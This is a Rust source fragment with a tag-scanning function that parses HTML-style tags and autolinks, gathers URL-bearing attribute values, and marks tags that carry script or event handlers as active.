fn tag(w: &str, bounded: bool, ended: bool, html: bool) -> Scan {
    let b = w.as_bytes();
    let open = |known: bool, url_start: Option<usize>, kind: RefKind| {
        let overflow = known.then_some(Scan::Overflow {
            kind,
            url_start,
            end: Some(b'>'),
        });
        ran_out(bounded, ended, overflow)
    };
    let mut i = 1;
    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'-' || b[i] == b':') {
        i += 1;
    }
    if i == b.len() {
        return open(false, None, RefKind::Link);
    }
    let name = w[1..i].to_ascii_lowercase();
    // `<https://…>`: an autolink.
    if (name == "http" || name == "https") && b[i] == b':' {
        return match b[i..]
            .iter()
            .position(|&c| c == b'>' || c.is_ascii_whitespace() || c == b'<')
        {
            Some(k) if b[i + k] == b'>' => Scan::Item(Item {
                end: i + k + 1,
                form: Form::Url { url: (1, i + k) },
            }),
            Some(_) => Scan::No,
            None => open(true, Some(1), RefKind::Link),
        };
    }
    let kind = match tag_kind(&name) {
        Some(kind) => kind,
        None if html && !name.is_empty() => RefKind::Link,
        None => return Scan::No,
    };
    if !(b[i].is_ascii_whitespace() || b[i] == b'/' || b[i] == b'>') {
        return Scan::No;
    }
    // Attributes up to the closing `>`, quotes respected.
    let mut urls = Vec::new();
    let mut first_url: Option<usize> = None;
    // Script a browser would run: the tag itself, or an event handler.
    let mut active = name == "script";
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
            i += 1;
        }
        if i >= b.len() {
            return open(true, first_url, kind);
        }
        if b[i] == b'>' {
            break;
        }
        let name_start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'>' | b'/') {
            i += 1;
        }
        let attr = w[name_start..i].to_ascii_lowercase();
        active |= (attr.len() > 2 && attr.starts_with("on")) || attr == "srcdoc";
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= b.len() {
            return open(true, first_url, kind);
        }
        if b[i] != b'=' {
            continue;
        }
        i += 1;
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= b.len() {
            return open(true, first_url, kind);
        }
        let (value, next) = if matches!(b[i], b'"' | b'\'') {
            let q = b[i];
            match b[i + 1..].iter().position(|&c| c == q) {
                Some(k) => ((i + 1, i + 1 + k), i + 1 + k + 1),
                None => return open(true, first_url.or(Some(i + 1)), kind),
            }
        } else {
            let s = i;
            while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                i += 1;
            }
            if i >= b.len() {
                return open(true, first_url.or(Some(s)), kind);
            }
            ((s, i), i)
        };
        i = next;
        if URL_ATTRIBUTES.contains(&attr.as_str()) {
            let (mut s, mut e) = value;
            // `srcset`: the first candidate; `content`: a refresh's `url=`.
            if attr == "srcset" {
                e = w[s..e].find([' ', ',']).map_or(e, |k| s + k);
            }
            if attr == "content" {
                match w[s..e].to_ascii_lowercase().find("url=") {
                    Some(k) => s += k + 4,
                    None => continue,
                }
            }
            first_url.get_or_insert(s);
            // A link tag's `href` loads a stylesheet or icon by itself; an
            // anchor's needs a click.
            urls.push(((s, e), kind));
        }
    }
    Scan::Item(Item {
        end: i + 1,
        form: Form::Tag { urls, active },
    })
}

#[cfg(test)]
mod tests;
